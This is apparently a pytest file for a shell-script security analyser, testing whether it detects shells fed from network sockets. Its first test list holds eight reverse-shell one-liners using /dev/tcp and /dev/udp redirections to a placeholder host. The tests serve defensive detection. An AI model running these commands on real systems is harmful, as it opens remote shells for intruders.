from collections.abc import Callable

import pytest

from security_hooks.model.effect import EffectKind
from security_hooks.model.shell import Script
from security_hooks.model.word import Origin


def is_fed_from_the_network(script: Script) -> bool:
    effects = [effect for command in script.commands for effect in command.effects]
    return any(effect.kind is EffectKind.EXECUTES and effect.origin is Origin.NETWORK for effect in effects)


@pytest.mark.parametrize(
    "text",
    [
        "sh -i >& /dev/tcp/h/1 0>&1",
        "sh < /dev/tcp/h/1",
        "{ sh -i; } >& /dev/tcp/h/1 0>&1",
        "f() { sh; }; f &> /dev/tcp/h/1 0<&2",
        "exec 5<> /dev/tcp/h/1; sh <&5",
        "exec 0<> /dev/tcp/h/1; sh",
        "bash -c '(sh) 3<> /dev/udp/h/1 0<&3'",
        "exec 4> /dev/tcp/h/1; sh 0>&4",
    ],
)
def test_a_shell_on_a_socket_runs_what_comes_from_the_network(read: Callable[[str], Script], text: str) -> None:
    assert is_fed_from_the_network(read(text))


@pytest.mark.parametrize(
    "text",
    [
        "echo x > /dev/tcp/h/1; sh x.sh",
        "bash -c 'curl h | jq .'",
        "{ sh x.sh; } 2>&1",
        "sh x.sh > log 2>&1",
        "bash -c 'echo x > /dev/tcp/h/1'",
        "sh 0< script.sh",
    ],
)
def test_a_shell_beside_a_socket_does_not(read: Callable[[str], Script], text: str) -> None:
    assert not is_fed_from_the_network(read(text))
